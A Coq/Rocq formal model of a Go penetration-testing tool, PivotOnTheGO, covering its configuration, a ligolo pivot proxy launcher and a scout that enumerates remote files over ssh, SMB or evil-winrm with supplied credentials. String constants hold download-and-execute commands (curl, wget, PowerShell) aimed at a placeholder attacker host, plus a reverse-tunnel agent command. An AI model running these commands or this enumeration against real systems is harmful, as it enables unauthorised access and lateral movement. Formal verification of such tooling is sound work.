(** * PivotOnTheGO: lifecycle coordinator and filesystem scout

    A shallow embedding of the Go sources [core/fs_scout.go], the
    application-data and configuration helpers of package [core], and the
    HTTP handlers of [cmd/ui/main.go], followed by the properties the
    design specification states about them.

    Conventions.
    - A Go [string] is a byte sequence: it is modelled as a Stdlib [string]
      (a list of 8-bit [ascii] characters).
    - A Go [int] is modelled as a [Z]; the sources never overflow one.
    - A Go [error] is [option GoError]; [None] is [nil].
    - Every effect on the outside world (file system, clock, processes,
      sockets) is answered by an oracle of the [World] record and logged as
      an [Event]; code that performs effects lives in the [IO] monad. *)

From Stdlib Require Import List Ascii String ZArith Lia Bool Arith.
From Stdlib Require Import DecimalString.
Import ListNotations.
Open Scope string_scope.

(** The line feed as a byte and as a string; the double quote. *)
Definition LF : ascii := "010"%char.
Definition nl : string := String LF "".
Definition dq : string := String "034"%char "".

(** ** Package [strings] of the Go library, as far as the sources use it *)

Module strings.

(** The byte as a number, for range tests. *)
Definition byteN (c : ascii) : N := N_of_ascii c.

(** [asciiSpace]: tab, line feed, vertical tab, form feed, carriage
    return, space. *)
Definition asciiSpace (c : ascii) : bool :=
  let n := byteN c in
  ((9 <=? n) && (n <=? 13) || (n =? 32))%N.

(** Two bytes that encode U+0085 or U+00A0. *)
Definition space2 (a b : ascii) : bool :=
  ((byteN a =? 194) && ((byteN b =? 133) || (byteN b =? 160)))%N.

(** Three bytes that encode U+1680, U+2000..U+200A, U+2028, U+2029,
    U+202F, U+205F or U+3000. *)
Definition space3 (a b c : ascii) : bool :=
  let x := byteN a in let y := byteN b in let z := byteN c in
  ((x =? 225) && (y =? 154) && (z =? 128)
   || (x =? 226) && (y =? 128)
      && ((128 <=? z) && (z <=? 138) || (z =? 168) || (z =? 169) || (z =? 175))
   || (x =? 226) && (y =? 129) && (z =? 159)
   || (x =? 227) && (y =? 128) && (z =? 128))%N.

(** Width in bytes of the white-space rune ([unicode.IsSpace]) that [s]
    starts with, [0] when [s] starts with anything else (another rune, or
    bytes that are no UTF-8 at all, which Go decodes to U+FFFD). *)
Definition spaceWidth (s : string) : nat :=
  match s with
  | String a r =>
      if asciiSpace a then 1
      else match r with
           | String b r2 =>
               if space2 a b then 2
               else match r2 with
                    | String c _ => if space3 a b c then 3 else 0
                    | "" => 0
                    end
           | "" => 0
           end
  | "" => 0
  end.

(** The same looking backwards: [s] is a reversed string, and the width
    is that of the white-space rune the original string ends with. *)
Definition spaceWidthRev (s : string) : nat :=
  match s with
  | String c r =>
      if asciiSpace c then 1
      else match r with
           | String b r2 =>
               if space2 b c then 2
               else match r2 with
                    | String a _ => if space3 a b c then 3 else 0
                    | "" => 0
                    end
           | "" => 0
           end
  | "" => 0
  end.

(** Drop leading white-space runes, as found by [width]; [skip] counts
    the bytes of the current rune still to be dropped. *)
Fixpoint dropSpaces (width : string -> nat) (skip : nat) (s : string) : string :=
  match s with
  | "" => ""
  | String _ r =>
      match skip with
      | S k => dropSpaces width k r
      | O => match width s with
             | O => s
             | S k => dropSpaces width k r
             end
      end
  end.

Fixpoint revOnto (s acc : string) : string :=
  match s with
  | "" => acc
  | String c r => revOnto r (String c acc)
  end.

Definition rev (s : string) : string := revOnto s "".

Definition TrimLeftSpace (s : string) : string := dropSpaces spaceWidth 0 s.

Definition TrimRightSpace (s : string) : string :=
  rev (dropSpaces spaceWidthRev 0 (rev s)).

(** [strings.TrimSpace]: leading, then trailing white space removed. *)
Definition TrimSpace (s : string) : string := TrimRightSpace (TrimLeftSpace s).

(** [strings.Split(s, sep)] for a one-byte separator, the only kind the
    sources pass: the pieces between separators, [n+1] of them for [n]
    separators. [splitCons] returns the first piece apart. *)
Fixpoint splitCons (s : string) (sep : ascii) : string * list string :=
  match s with
  | "" => ("", [])
  | String c r =>
      let (h, t) := splitCons r sep in
      if Ascii.eqb c sep then ("", h :: t) else (String c h, t)
  end.

Definition Split (s : string) (sep : ascii) : list string :=
  let (h, t) := splitCons s sep in h :: t.

(** [strings.Contains]. *)
Fixpoint Contains (s substr : string) : bool :=
  prefix substr s
  || match s with
     | "" => false
     | String _ r => Contains r substr
     end.

(** [strings.HasPrefix]. *)
Definition HasPrefix (s pre : string) : bool := prefix pre s.

(** [strings.ReplaceAll(s, old, new)] for a one-byte [old], the only
    kind the sources pass. *)
Fixpoint ReplaceAll (s : string) (old : ascii) (new : string) : string :=
  match s with
  | "" => ""
  | String c r =>
      (if Ascii.eqb c old then new else String c "") ++ ReplaceAll r old new
  end.

(** [strings.Fields]: the maximal runs of bytes between white-space
    runes. [cur] is the field being read. *)
Definition flush (cur : string) : list string :=
  match cur with "" => [] | _ => [cur] end.

Fixpoint fieldsFrom (skip : nat) (cur : string) (s : string) : list string :=
  match s with
  | "" => flush cur
  | String c r =>
      match skip with
      | S k => fieldsFrom k cur r
      | O => match spaceWidth s with
             | O => fieldsFrom 0 (cur ++ String c "") r
             | S k => flush cur ++ fieldsFrom k "" r
             end
      end
  end.

Definition Fields (s : string) : list string := fieldsFrom 0 "" s.

(** [strings.Join]. *)
Fixpoint Join (elems : list string) (sep : string) : string :=
  match elems with
  | [] => ""
  | [e] => e
  | e :: rest => e ++ sep ++ Join rest sep
  end.

End strings.

(** [fmt.Sprintf("%d", n)]. *)
Definition itoa (n : Z) : string := NilZero.string_of_int (Z.to_int n).


(** ** Package [path/filepath] on a Unix host *)

Module filepath.

Definition Separator : ascii := "/"%char.

(** One path element read by [Clean]. [out] holds the elements written so
    far, last first; a [".."] is only ever written below every real
    element (Go's [dotdot] index marks where that prefix ends), and never
    in a rooted path. *)
Definition cleanStep (rooted : bool) (out : list string) (e : string) : list string :=
  if (e =? "") || (e =? ".") then out
  else if e =? ".." then
    match out with
    | top :: below => if top =? ".." then ".." :: out else below
    | [] => if rooted then [] else [".."]
    end
  else e :: out.

Definition isRooted (path : string) : bool :=
  match path with
  | String c _ => Ascii.eqb c Separator
  | "" => false
  end.

(** [filepath.Clean]: the shortest path equivalent to [path] by lexical
    processing: no empty or ["."] element, no inner [".."] with the element
    it cancels, no [".."] at the start of a rooted path. *)
Definition Clean (path : string) : string :=
  if path =? "" then "."
  else
    let rooted := isRooted path in
    let out := fold_left (cleanStep rooted) (strings.Split path Separator) [] in
    if rooted then "/" ++ strings.Join (List.rev out) "/"
    else match out with
         | [] => "."
         | _ => strings.Join (List.rev out) "/"
         end.

(** [filepath.Join]: the elements from the first non-empty one on, joined
    by the separator and cleaned. *)
Fixpoint Join (elem : list string) : string :=
  match elem with
  | [] => ""
  | e :: rest => if e =? "" then Join rest else Clean (strings.Join elem "/")
  end.

End filepath.

(** ** Errors, the outside world and the [IO] monad *)

(** A Go error value: its message, and which of the sentinel errors the
    sources test for with [errors.Is] it is or wraps. *)
Inductive ErrKind : Type := KOther | KNotExist | KServerClosed.

Record GoError : Type := mkError { Error : string; Kind : ErrKind }.

Definition isNotExist (e : GoError) : bool :=
  match Kind e with KNotExist => true | _ => false end.

Definition isServerClosed (e : GoError) : bool :=
  match Kind e with KServerClosed => true | _ => false end.

Definition error : Type := option GoError.

Definition errors_New (msg : string) : GoError := mkError msg KOther.

(** [fmt.Errorf(prefix + "%w", err)]: the wrapped error keeps its kind. *)
Definition fmt_Errorf_w (pre : string) (err : GoError) : GoError :=
  mkError (pre ++ Error err) (Kind err).

Definition os_ErrNotExist : GoError := mkError "file does not exist" KNotExist.

(** [core.Config]. *)
Record Config : Type := mkConfig {
  ProxyBind : string;
  ProxyPort : Z;
  PublicIP : string;
  ProxyBinary : string;
  AgentBinary : string;
  FileBind : string;
  FilePort : Z;
  FileDirectory : string
}.

(** [core.FSScoutRequest]; [FSScoutProtocol] and [FSScoutMode] are string
    types, and a request decoded from JSON may carry any string there. *)
Record FSScoutRequest : Type := mkRequest {
  Protocol : string;
  Host : string;
  Port : Z;
  Username : string;
  Password : string;
  SMBShare : string;
  StartDir : string;
  Depth : Z;
  Mode : string
}.

(** What an external command wrote, in the order it wrote it, and how it
    ended. A command whose two streams go to separate buffers leaves the
    two projections; one whose streams share a buffer leaves the
    interleaving. *)
Inductive Stream : Type := Stdout | Stderr.

Record ProcResult : Type := mkProc {
  written : list (Stream * string);
  exitErr : error
}.

Definition isStdout (s : Stream) : bool := match s with Stdout => true | Stderr => false end.
Definition isStderr (s : Stream) : bool := match s with Stdout => false | Stderr => true end.

Fixpoint captured (keep : Stream -> bool) (ws : list (Stream * string)) : string :=
  match ws with
  | [] => ""
  | (s, data) :: rest => (if keep s then data else "") ++ captured keep rest
  end.

(** [*exec.Cmd] as the coordinator sees it: the command line it was built
    from, that is the name and the arguments as they were given to
    [exec.Command] (the [Args] of the command: [Args[0]] and the rest),
    and whether [Start] attached a process to it. The [Path] of the
    command, which [exec.Command] resolves through PATH when the name
    holds no separator, is not part of this record: no modelled function
    reads it. *)
Record Cmd : Type := mkCmd {
  cmdName : string;
  cmdArgs : list string;
  Process : bool
}.

(** [*http.Server] as [handleFileStart] builds it; timeouts in seconds. *)
Record Server : Type := mkServer {
  Addr : string;
  Root : string;
  ReadTimeout : Z;
  WriteTimeout : Z;
  IdleTimeout : Z
}.

(** The answers of the environment during one call. *)
Record World : Type := mkWorld {
  os_UserHomeDir : string * error;
  os_Stat : string -> bool * error;          (* IsDir, error *)
  os_MkdirAll : string -> error;
  os_ReadFile : string -> string * error;
  os_WriteFile : string -> string -> error;
  json_Unmarshal_Config : string -> Config * error;
  json_Decode_Request : string -> FSScoutRequest * error;
  time_Now_Format : string -> string;
  exec_Run : string -> list string -> ProcResult;
  exec_Start : string -> list string -> error;
  net_Listen : string -> error;
  srv_Shutdown : Server -> error
}.

(** The effects a call has on the environment, in order. *)
Inductive Event : Type :=
| EvStat (path : string)
| EvMkdirAll (path : string)
| EvReadFile (path : string)
| EvWriteFile (path data : string)
| EvRun (name : string) (args : list string)
| EvStart (name : string) (args : list string) (ok : bool)
| EvKill (c : Cmd)
| EvWaitAsync (c : Cmd)
| EvListen (addr : string) (ok : bool)
| EvServeAsync (s : Server)
| EvShutdown (s : Server)
| EvLog (msg : string).

Definition IO (A : Type) : Type := World -> A * list Event.

Definition ret {A : Type} (a : A) : IO A := fun _ => (a, []).

Definition bind {A B : Type} (m : IO A) (k : A -> IO B) : IO B :=
  fun w => let (a, t1) := m w in let (b, t2) := k a w in (b, (t1 ++ t2)%list).

Declare Scope io_scope.
Delimit Scope io_scope with io.
Notation "x <- m ;; k" := (bind m (fun x => k))
  (at level 61, m at next level, right associativity) : io_scope.
Notation "' pat <- m ;; k" := (bind m (fun x => match x with pat => k end))
  (at level 61, pat pattern, m at next level, right associativity) : io_scope.
Notation "m ;; k" := (bind m (fun _ => k))
  (at level 61, right associativity) : io_scope.
Open Scope io_scope.

Definition isNil (e : error) : bool := match e with None => true | Some _ => false end.

Definition os_UserHomeDir_ : IO (string * error) := fun w => (os_UserHomeDir w, []).
Definition os_Stat_ (p : string) : IO (bool * error) := fun w => (os_Stat w p, [EvStat p]).
Definition os_MkdirAll_ (p : string) : IO error := fun w => (os_MkdirAll w p, [EvMkdirAll p]).
Definition os_ReadFile_ (p : string) : IO (string * error) :=
  fun w => (os_ReadFile w p, [EvReadFile p]).
Definition os_WriteFile_ (p data : string) : IO error :=
  fun w => (os_WriteFile w p data, [EvWriteFile p data]).
Definition time_Now_Format_ (layout : string) : IO string :=
  fun w => (time_Now_Format w layout, []).
Definition cmd_Run (name : string) (args : list string) : IO ProcResult :=
  fun w => (exec_Run w name args, [EvRun name args]).
Definition cmd_Start (name : string) (args : list string) : IO error :=
  fun w => let e := exec_Start w name args in (e, [EvStart name args (isNil e)]).
Definition net_Listen_ (addr : string) : IO error :=
  fun w => let e := net_Listen w addr in (e, [EvListen addr (isNil e)]).
Definition json_Unmarshal_Config_ (data : string) : IO (Config * error) :=
  fun w => (json_Unmarshal_Config w data, []).
Definition json_Decode_Request_ (body : string) : IO (FSScoutRequest * error) :=
  fun w => (json_Decode_Request w body, []).
Definition srv_Shutdown_ (s : Server) : IO error :=
  fun w => (srv_Shutdown w s, [EvShutdown s]).
Definition emit (e : Event) : IO unit := fun _ => (tt, [e]).

(** ** Package [core]: application data and loot directories *)

Module core.

(** [LegacyAppDataDirPath]; the error of [os.UserHomeDir] is dropped. *)
Definition LegacyAppDataDirPath : IO string :=
  '(home, _) <- os_UserHomeDir_ ;;
  ret (filepath.Join [home; ".local"; "share"; "SwissArmyToolkit"]).

(** [DefaultAppDataDir]. *)
Definition DefaultAppDataDir : IO (string * error) :=
  '(home, err) <- os_UserHomeDir_ ;;
  match err with
  | Some e => ret ("", Some e)
  | None =>
      let newPath := filepath.Join [home; ".local"; "share"; "PivotOnTheGO"] in
      oldPath <- LegacyAppDataDirPath ;;
      '(_, err1) <- os_Stat_ newPath ;;
      if isNil err1 then ret (newPath, None)
      else
        '(_, err2) <- os_Stat_ oldPath ;;
        if isNil err2 then ret (oldPath, None)
        else ret (newPath, None)
  end.

(** [DefaultLootDir]. *)
Definition DefaultLootDir : IO (string * error) :=
  '(base, err) <- DefaultAppDataDir ;;
  match err with
  | Some e => ret ("", Some e)
  | None => ret (filepath.Join [base; "loot"], None)
  end.

Definition writeIfNotExists (path content : string) : IO error :=
  '(_, err) <- os_Stat_ path ;;
  if isNil err then ret None
  else os_WriteFile_ path content.

Definition defaultLootReadme : string :=
"PivotOnTheGO Loot Directory

This folder is used as the default root for the built-in file server
and the Loot / File Browser. You can drop tools, scripts, and payloads
here and use the UI to generate per-file download one-liners.

Starter files:
- commands_linux.txt   : example curl/wget agent & loot download commands
- commands_windows.txt : example PowerShell Invoke-WebRequest examples

You are responsible for using these commands only in labs or environments
where you have explicit authorization.
".

Definition defaultLinuxCommands : string :=
"# Linux Download Examples (adjust IP/port/filenames as needed)

# Basic curl download
curl -o agent http://YOUR_IP:YOUR_PORT/agent

# Basic wget download
wget -O agent http://YOUR_IP:YOUR_PORT/agent

# Make downloaded file executable
chmod +x agent

# Example: download linpeas
curl -o linpeas.sh http://YOUR_IP:YOUR_PORT/linpeas.sh
chmod +x linpeas.sh
./linpeas.sh
".

Definition defaultWindowsCommands : string :=
"# Windows PowerShell Download Examples (run in an elevated prompt if needed)

# Download a file with Invoke-WebRequest
powershell -Command " ++ dq ++ "Invoke-WebRequest -Uri 'http://YOUR_IP:YOUR_PORT/agent.exe' -OutFile 'agent.exe'" ++ dq ++ "

# Download and execute a script
powershell -Command " ++ dq ++ "Invoke-WebRequest -Uri 'http://YOUR_IP:YOUR_PORT/script.ps1' -OutFile 'script.ps1'; .\\script.ps1" ++ dq ++ "

# Example: download winPEAS
powershell -Command " ++ dq ++ "Invoke-WebRequest -Uri 'http://YOUR_IP:YOUR_PORT/winpeas.exe' -OutFile 'winpeas.exe'" ++ dq ++ "
".

Definition RFC3339 : string := "2006-01-02T15:04:05Z07:00".

(** [InitLootDir]: the loot directory, created and seeded on first use. *)
Definition InitLootDir : IO (string * error) :=
  '(lootDir, err) <- DefaultLootDir ;;
  match err with
  | Some e => ret ("", Some e)
  | None =>
      err <- os_MkdirAll_ lootDir ;;
      match err with
      | Some e => ret ("", Some e)
      | None =>
          let marker := filepath.Join [lootDir; ".initialized"] in
          '(_, serr) <- os_Stat_ marker ;;
          if isNil serr then ret (lootDir, None)
          else
            e1 <- writeIfNotExists (filepath.Join [lootDir; "README_LOOT.txt"]) defaultLootReadme ;;
            match e1 with
            | Some e => ret ("", Some e)
            | None =>
                e2 <- writeIfNotExists (filepath.Join [lootDir; "commands_linux.txt"]) defaultLinuxCommands ;;
                match e2 with
                | Some e => ret ("", Some e)
                | None =>
                    e3 <- writeIfNotExists (filepath.Join [lootDir; "commands_windows.txt"]) defaultWindowsCommands ;;
                    match e3 with
                    | Some e => ret ("", Some e)
                    | None =>
                        stamp <- time_Now_Format_ RFC3339 ;;
                        _ <- os_WriteFile_ marker stamp ;;
                        ret (lootDir, None)
                    end
                end
            end
      end
  end.

(** ** Package [core]: configuration *)

Definition defaultProxyBind : string := "127.0.0.1".
Definition defaultProxyPort : Z := 11601.
Definition defaultPublicIP : string := "CHANGEME_PUBLIC_IP".
Definition defaultProxyBinary : string := "/opt/ligolo/proxy".
Definition defaultAgentBinary : string := "agent".

Definition DefaultConfig : Config :=
  mkConfig defaultProxyBind defaultProxyPort defaultPublicIP
           defaultProxyBinary defaultAgentBinary "0.0.0.0" 8000 "".

(** [ConfigPath]. *)
Definition ConfigPath : IO (string * error) :=
  '(home, err) <- os_UserHomeDir_ ;;
  match err with
  | Some e => ret ("", Some e)
  | None =>
      let newPath := filepath.Join [home; ".config"; "PivotOnTheGO"; "config.json"] in
      let oldPath := filepath.Join [home; ".config"; "SwissArmyToolkit"; "config.json"] in
      '(_, err1) <- os_Stat_ newPath ;;
      if isNil err1 then ret (newPath, None)
      else
        '(_, err2) <- os_Stat_ oldPath ;;
        if isNil err2 then ret (oldPath, None)
        else ret (newPath, None)
  end.

Definition outOfPortRange (p : Z) : bool := ((p <=? 0) || (65535 <? p))%Z.

(** [SanitizeConfig]. The record is rebuilt field by field where the
    source assigns to the fields of its copy. *)
Definition SanitizeConfig (cfg : Config) : IO Config :=
  let proxyBind := strings.TrimSpace (ProxyBind cfg) in
  let publicIP := strings.TrimSpace (PublicIP cfg) in
  let proxyBinary := strings.TrimSpace (ProxyBinary cfg) in
  let agentBinary := strings.TrimSpace (AgentBinary cfg) in
  let fileBind := strings.TrimSpace (FileBind cfg) in
  let fileDirectory := strings.TrimSpace (FileDirectory cfg) in
  oldAppData <- LegacyAppDataDirPath ;;
  '(newAppData, _) <- DefaultAppDataDir ;;
  let oldLoot := filepath.Join [oldAppData; "loot"] in
  let newLoot := filepath.Join [newAppData; "loot"] in
  let oldProxy := filepath.Join [oldAppData; "ligolo"; "proxy"] in
  let newProxy := filepath.Join [newAppData; "ligolo"; "proxy"] in
  let proxyPort := if outOfPortRange (ProxyPort cfg) then defaultProxyPort else ProxyPort cfg in
  let proxyBind := if proxyBind =? "" then defaultProxyBind else proxyBind in
  let proxyBinary := if proxyBinary =? "" then defaultProxyBinary else proxyBinary in
  proxyBinary <-
    (if proxyBinary =? oldProxy then
       '(_, err) <- os_Stat_ newProxy ;;
       ret (if isNil err then newProxy else proxyBinary)
     else ret proxyBinary) ;;
  let agentBinary := if agentBinary =? "" then defaultAgentBinary else agentBinary in
  let filePort := if outOfPortRange (FilePort cfg) then 8000%Z else FilePort cfg in
  let fileBind := if fileBind =? "" then "0.0.0.0" else fileBind in
  fileDirectory <-
    (if fileDirectory =? "" then
       '(lootDir, err) <- InitLootDir ;;
       ret (if isNil err then lootDir else fileDirectory)
     else if fileDirectory =? oldLoot then
       '(_, err) <- os_Stat_ newLoot ;;
       ret (if isNil err then newLoot else fileDirectory)
     else ret fileDirectory) ;;
  ret (mkConfig proxyBind proxyPort publicIP proxyBinary agentBinary
                fileBind filePort fileDirectory).

(** [LoadConfig]: the stored configuration, or the defaults together with
    the reason they are returned. *)
Definition LoadConfig : IO (Config * error) :=
  '(path, err) <- ConfigPath ;;
  match err with
  | Some e => ret (DefaultConfig, Some e)
  | None =>
      '(data, rerr) <- os_ReadFile_ path ;;
      match rerr with
      | Some e =>
          if isNotExist e then ret (DefaultConfig, Some os_ErrNotExist)
          else ret (DefaultConfig, Some e)
      | None =>
          '(cfg, uerr) <- json_Unmarshal_Config_ data ;;
          match uerr with
          | Some e => ret (DefaultConfig, Some e)
          | None => c <- SanitizeConfig cfg ;; ret (c, None)
          end
      end
  end.

(** [StartProxy]: the command, built from the name and the arguments given
    to [exec.Command], is returned even when it failed to start. *)
Definition StartProxy (cfg : Config) : IO (Cmd * error) :=
  cfg <- SanitizeConfig cfg ;;
  let addr := ProxyBind cfg ++ ":" ++ itoa (ProxyPort cfg) in
  let args := ["-laddr"; addr; "-selfcert"] in
  err <- cmd_Start (ProxyBinary cfg) args ;;
  ret (mkCmd (ProxyBinary cfg) args (isNil err), err).

(** ** Package [core]: the filesystem scout ([fs_scout.go]) *)

Definition FSProtocolSSH : string := "ssh".
Definition FSProtocolSMB : string := "smb".
Definition FSProtocolFTP : string := "ftp".
Definition FSProtocolEvilWinRM : string := "evil-winrm".

Definition FSModeFast : string := "fast".
Definition FSModeStealth : string := "stealth".

(** [core.FSScoutResult]. *)
Record FSScoutResult : Type := mkResult {
  OutputFile : string;
  ResProtocol : string;
  ResMode : string;
  ResHost : string;
  ResError : string
}.

(** The zero value [FSScoutResult{}]. *)
Definition zeroResult : FSScoutResult := mkResult "" "" "" "" "".

Definition sanitizeHost (h : string) : string :=
  let h := strings.TrimSpace h in
  let h := strings.ReplaceAll h ":"%char "_" in
  let h := strings.ReplaceAll h "/"%char "_" in
  h.

(** The body of the first loop of [writeFSScoutOutputSSH]: one stdout line
    appended to the buffer. *)
Definition sshStdoutLine (buf line : string) : string :=
  let line := strings.TrimSpace line in
  if line =? "" then buf
  else buf ++ "FILE|" ++ line ++ nl.

(** The body of its second loop: one stderr line. *)
Definition sshStderrLine (buf line : string) : string :=
  if strings.Contains line "Permission denied"
  then buf ++ "DENIED|" ++ strings.TrimSpace line ++ nl
  else buf.

(** What [writeFSScoutOutputSSH] hands to [os.WriteFile]. *)
Definition sshArtifact (stdout stderr : string) : string :=
  let buf := "" in
  let buf := fold_left sshStdoutLine (strings.Split stdout LF) buf in
  let buf := fold_left sshStderrLine (strings.Split stderr LF) buf in
  buf.

Definition writeFSScoutOutputSSH (outPath stdout stderr : string) : IO error :=
  os_WriteFile_ outPath (sshArtifact stdout stderr).

(** The argument vector [runFSScoutSSH] builds for [ssh]. *)
Definition sshArgs (req : FSScoutRequest) : list string :=
  let port := Port req in
  let port := if (port =? 0)%Z then 22%Z else port in
  let depthStr := itoa (Depth req) in
  let target := Username req ++ "@" ++ Host req in
  ["-p"; itoa port;
   target;
   "find"; StartDir req;
   "-maxdepth"; depthStr;
   "-type"; "f";
   "-printf"; "%p" ++ nl].

Definition runFSScoutSSH (req : FSScoutRequest) (outPath : string) : IO error :=
  p <- cmd_Run "ssh" (sshArgs req) ;;
  let stdout := captured isStdout (written p) in
  let stderr := captured isStderr (written p) in
  let err := exitErr p in
  writeErr <- writeFSScoutOutputSSH outPath stdout stderr ;;
  match err with
  | Some e => ret (Some (fmt_Errorf_w "ssh command failed: " e))
  | None => ret writeErr
  end.

(** The body of the loop of [parseAndWriteSMBOutput]. *)
Definition smbLine (buf line : string) : string :=
  let l := strings.TrimSpace line in
  if l =? "" then buf
  else if strings.Contains l "NT_STATUS_ACCESS_DENIED"
  then buf ++ "DENIED|" ++ l ++ nl
  else
    match strings.Fields l with
    | name :: _ =>
        if negb (name =? ".") && negb (name =? "..")
        then buf ++ "FILE|" ++ name ++ nl
        else buf
    | [] => buf
    end.

Definition smbArtifact (raw : string) : string :=
  fold_left smbLine (strings.Split raw LF) "".

Definition parseAndWriteSMBOutput (outPath raw : string) : IO error :=
  os_WriteFile_ outPath (smbArtifact raw).

Definition smbArgs (req : FSScoutRequest) : list string :=
  let target := "//" ++ Host req ++ "/" ++ SMBShare req in
  let userArg := Username req ++ "%" ++ Password req in
  [target; "-U"; userArg; "-c"; "recurse; ls"].

Definition runFSScoutSMB (req : FSScoutRequest) (outPath : string) : IO error :=
  if SMBShare req =? "" then
    ret (Some (errors_New "SMB share name is required for smb protocol"))
  else
    p <- cmd_Run "smbclient" (smbArgs req) ;;
    let outBuf := captured (fun _ => true) (written p) in
    let err := exitErr p in
    parseErr <- parseAndWriteSMBOutput outPath outBuf ;;
    match err with
    | Some e => ret (Some (fmt_Errorf_w "smbclient command failed: " e))
    | None => ret parseErr
    end.

(** The body of the loop of [parseAndWriteFSOutputGeneric]. *)
Definition genericLine (buf line : string) : string :=
  let l := strings.TrimSpace line in
  if l =? "" then buf
  else if strings.HasPrefix l "FILE|" || strings.HasPrefix l "DENIED|"
  then buf ++ l ++ nl
  else buf.

Definition genericArtifact (raw : string) : string :=
  fold_left genericLine (strings.Split raw LF) "".

Definition parseAndWriteFSOutputGeneric (outPath raw : string) : IO error :=
  os_WriteFile_ outPath (genericArtifact raw).

(** The PowerShell walker of [runFSScoutEvilWinRM], before its line feeds
    are replaced by spaces. *)
Definition psScriptText (startDir : string) (depth : Z) : string :=
  nl ++ "$start = " ++ dq ++ startDir ++ dq ++ nl ++
  "$depth = " ++ itoa depth ++
"
function Walk($path, $level) {
    if ($level -gt $depth) { return }
    try {
        Get-ChildItem -Path $path -ErrorAction Stop | ForEach-Object {
            if ($_.PSIsContainer) {
                Walk $_.FullName ($level + 1)
            } else {
                " ++ dq ++ "FILE|$($_.FullName)" ++ dq ++ "
            }
        }
    } catch {
        " ++ dq ++ "DENIED|$path" ++ dq ++ "
    }
}
Walk $start 0
".

Definition winrmArgs (req : FSScoutRequest) : list string :=
  let port := Port req in
  let port := if (port =? 0)%Z then 5985%Z else port in
  let psScript := psScriptText (StartDir req) (Depth req) in
  let psScript := strings.ReplaceAll psScript LF " " in
  ["-i"; Host req;
   "-u"; Username req;
   "-p"; Password req;
   "-P"; itoa port;
   "-c"; psScript].

Definition runFSScoutEvilWinRM (req : FSScoutRequest) (outPath : string) : IO error :=
  p <- cmd_Run "evil-winrm" (winrmArgs req) ;;
  let outBuf := captured (fun _ => true) (written p) in
  let err := exitErr p in
  parseErr <- parseAndWriteFSOutputGeneric outPath outBuf ;;
  match err with
  | Some e => ret (Some (fmt_Errorf_w "evil-winrm command failed: " e))
  | None => ret parseErr
  end.

Definition withDepth (req : FSScoutRequest) (d : Z) : FSScoutRequest :=
  mkRequest (Protocol req) (Host req) (Port req) (Username req) (Password req)
            (SMBShare req) (StartDir req) d (Mode req).

Definition withMode (req : FSScoutRequest) (m : string) : FSScoutRequest :=
  mkRequest (Protocol req) (Host req) (Port req) (Username req) (Password req)
            (SMBShare req) (StartDir req) (Depth req) m.

Definition withError (res : FSScoutResult) (msg : string) : FSScoutResult :=
  mkResult (OutputFile res) (ResProtocol res) (ResMode res) (ResHost res) msg.

Definition tsLayout : string := "2006-01-02_15-04-05".

(** The [switch] of [RunFSScout]. *)
Definition dispatch (req : FSScoutRequest) (outPath : string) : IO error :=
  if Protocol req =? FSProtocolSSH then runFSScoutSSH req outPath
  else if Protocol req =? FSProtocolSMB then runFSScoutSMB req outPath
  else if Protocol req =? FSProtocolFTP then
    ret (Some (errors_New "FTP auto-scout not implemented yet; use generate-only / manual mode"))
  else if Protocol req =? FSProtocolEvilWinRM then runFSScoutEvilWinRM req outPath
  else ret (Some (errors_New "unsupported protocol")).

(** [RunFSScout]. *)
Definition RunFSScout (req : FSScoutRequest) : IO (FSScoutResult * error) :=
  if Host req =? "" then
    ret (zeroResult, Some (errors_New "host is required"))
  else if (Username req =? "") || (Password req =? "") then
    ret (zeroResult, Some (errors_New "username and password are required"))
  else if StartDir req =? "" then
    ret (zeroResult, Some (errors_New "start directory is required"))
  else
    let req := if (Depth req <=? 0)%Z then withDepth req 3 else req in
    let req := if Mode req =? "" then withMode req FSModeFast else req in
    '(lootDir, err) <- DefaultLootDir ;;
    match err with
    | Some e => ret (zeroResult, Some e)
    | None =>
        let fsBase := filepath.Join [lootDir; "fs"; sanitizeHost (Host req)] in
        err <- os_MkdirAll_ fsBase ;;
        match err with
        | Some e => ret (zeroResult, Some e)
        | None =>
            ts <- time_Now_Format_ tsLayout ;;
            let outName := ts ++ "_" ++ Protocol req ++ "_" ++ Mode req ++ ".txt" in
            let outPath := filepath.Join [fsBase; outName] in
            runErr <- dispatch req outPath ;;
            let res := mkResult outPath (Protocol req) (Mode req) (Host req) "" in
            match runErr with
            | Some e => ret (withError res (Error e), Some e)
            | None => ret (res, None)
            end
        end
    end.

(** ** Package [core]: the installer's readiness check ([CheckLigoloInstalled]) *)

(** [LigoloInstallDir]. *)
Definition LigoloInstallDir : IO (string * error) :=
  '(base, err) <- DefaultAppDataDir ;;
  match err with
  | Some e => ret ("", Some e)
  | None => ret (filepath.Join [base; "ligolo"], None)
  end.

(** [core.LigoloStatus]. *)
Record LigoloStatus : Type := mkLigolo {
  Installed : bool;
  ProxyPath : string;
  AgentName : string;
  InstallDir : string;
  Reason : string
}.

Definition zeroLigolo : LigoloStatus := mkLigolo false "" "" "" "".

(** [CheckLigoloInstalled]; a missing configuration file is not an error
    here, the configuration [LoadConfig] returned with it is used. *)
Definition CheckLigoloInstalled : IO (LigoloStatus * error) :=
  '(cfg, err) <- LoadConfig ;;
  match (match err with
         | Some e => if isNotExist e then None else Some e
         | None => None
         end) with
  | Some e => ret (zeroLigolo, Some e)
  | None =>
      cfg <- SanitizeConfig cfg ;;
      '(installDir, err) <- LigoloInstallDir ;;
      match err with
      | Some e => ret (zeroLigolo, Some e)
      | None =>
          let status := mkLigolo false (ProxyBinary cfg) (AgentBinary cfg) installDir "" in
          if ProxyBinary cfg =? "" then
            ret (mkLigolo false (ProxyPath status) (AgentName status) (InstallDir status)
                          "proxy binary path not set", None)
          else
            '(_, err1) <- os_Stat_ (ProxyBinary cfg) ;;
            if negb (isNil err1) then
              ret (mkLigolo false (ProxyPath status) (AgentName status) (InstallDir status)
                            "proxy binary not found on disk", None)
            else
              let agentPath := filepath.Join [installDir; AgentBinary cfg] in
              '(_, err2) <- os_Stat_ agentPath ;;
              if negb (isNil err2) then
                ret (mkLigolo false (ProxyPath status) (AgentName status) (InstallDir status)
                              "agent binary not found in install dir", None)
              else
                ret (mkLigolo true (ProxyPath status) (AgentName status) (InstallDir status)
                              "", None)
      end
  end.

(** [AgentCmdLinux]. *)
Definition AgentCmdLinux (cfg : Config) : IO string :=
  cfg <- SanitizeConfig cfg ;;
  ret ("./" ++ AgentBinary cfg ++ " -connect " ++ PublicIP cfg ++ ":"
       ++ itoa (ProxyPort cfg) ++ " -ignore-cert").

End core.

(** ** Package [main]: the HTTP handlers of the coordinator and the scout *)

